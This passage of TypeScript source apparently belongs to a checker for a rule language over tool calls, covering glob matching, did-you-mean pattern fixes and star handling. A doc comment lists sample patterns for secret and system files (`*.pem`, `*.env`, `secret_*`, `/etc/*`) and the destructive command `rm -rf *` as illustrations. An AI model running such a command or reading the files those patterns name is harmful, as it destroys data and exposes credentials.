  return problem?.meant ?? domain;
}

/** The string literal `expr` is, through parentheses. */
function stringLiteralOf(expr: A.Expr): A.StringLiteral | undefined {
  const inner = unparenthesized(expr);
  return inner.kind === "StringLiteral" ? inner : undefined;
}

function placeOf(operator: "==" | "!=" | "contains"): TextPlace {
  return operator === "contains" ? "inside" : "whole";
}

function nameFits(name: string, text: string, test: NameTest): boolean {
  switch (test) {
    case "named":
      return name === text;
    case "matches":
      return globMatch(text, name);
    case "starts with":
      return name.startsWith(text);
    case "ends with":
      return name.endsWith(text);
    case "contains":
      return name.includes(text);
  }
}

/**
 * A `like` pattern near `pattern` that matches one of `names`: each piece between its stars
 * replaced by the closest piece of a name at that place (`"file.*"` becomes `"files.*"`).
 */
function closePattern(pattern: string, names: readonly string[]): string | undefined {
  const pieces = pattern.split("*");
  if (pieces.length === 1) return undefined;
  const fixed = pieces.map((piece, i) => {
    if (piece === "") return piece;
    const test: NameTest = i === 0 ? "starts with" : i === pieces.length - 1 ? "ends with" : "contains";
    if (names.some((name) => nameFits(name, piece, test))) return piece;
    // Pieces that keep the edge next to the star come first: `file.` is `files.`, not `files`.
    const candidates = namePieces(names, test);
    const edge = (text: string): string | undefined => (test === "starts with" ? text.at(-1) : test === "ends with" ? text[0] : undefined);
    return closestName(piece, candidates.filter((c) => edge(c) === edge(piece))) ?? closestName(piece, candidates) ?? piece;
  });
  const meant = fixed.join("*");
  return meant !== pattern && names.some((name) => globMatch(meant, name)) ? meant : undefined;
}

/**
 * The pieces of names a misspelt `startsWith` or `endsWith` text is compared with for a
 * did-you-mean: each name's starts (or ends) at a segment boundary, `files.` and `files` of
 * `files.delete`, so `"file."` gets `files.`.
 */
function namePieces(names: readonly string[], test: NameTest): string[] {
  const pieces = new Set<string>();
  for (const name of names) {
    const segments = name.split(".");
    for (let i = 1; i <= segments.length; i++) {
      if (test === "starts with") {
        const head = segments.slice(0, i).join(".");
        pieces.add(head);
        if (i < segments.length) pieces.add(`${head}.`);
      } else if (test === "ends with") {
        const tail = segments.slice(segments.length - i).join(".");
        pieces.add(tail);
        if (i < segments.length) pieces.add(`.${tail}`);
      } else pieces.add(segments[i - 1]!);
    }
  }
  return [...pieces];
}

/**
 * The text without its stars when `text` has one run of them (`*` or a globstar `**`), at an end
 * `method` leaves open, stuck to a name on its other side: the start of an `endsWith`
 * (`"*.pem"`, `"**.pem"`), the end of a `startsWith` (`"/etc/*"`), either end of a `contains`
 * (`"*.env"`, `"secret_*"`). Undefined for any other text: stars with white space beside them
 * (`"rm -rf *"`, `"SELECT *"`), stars elsewhere too, or at both ends (see textBetweenStars).
 */
function openEndStar(text: string, method: "contains" | "startsWith" | "endsWith"): string | undefined {
  const leading = /^\*+(?=[^*\s])([^*]*)$/.exec(text)?.[1];
  const trailing = /^([^*]*[^*\s])\*+$/.exec(text)?.[1];
  if (leading !== undefined && (method === "endsWith" || method === "contains")) return leading;
  if (trailing !== undefined && (method === "startsWith" || method === "contains")) return trailing;
  return undefined;
}

/** A value named as a file path: `args.path`, `args.file_name`, `target_dir`, `folder`. */
const PATH_NAME = /path|file|dir|folder/i;

/** The name a chain of members and method calls starts from (`path` of `path.lower()`). */
function rootNameOf(expr: A.Expr): A.Expr {
  let base = unparenthesized(expr);
  while (base.kind === "Member" || base.kind === "Call") base = unparenthesized(base.kind === "Member" ? base.object : base.callee.object);
  return base;
}
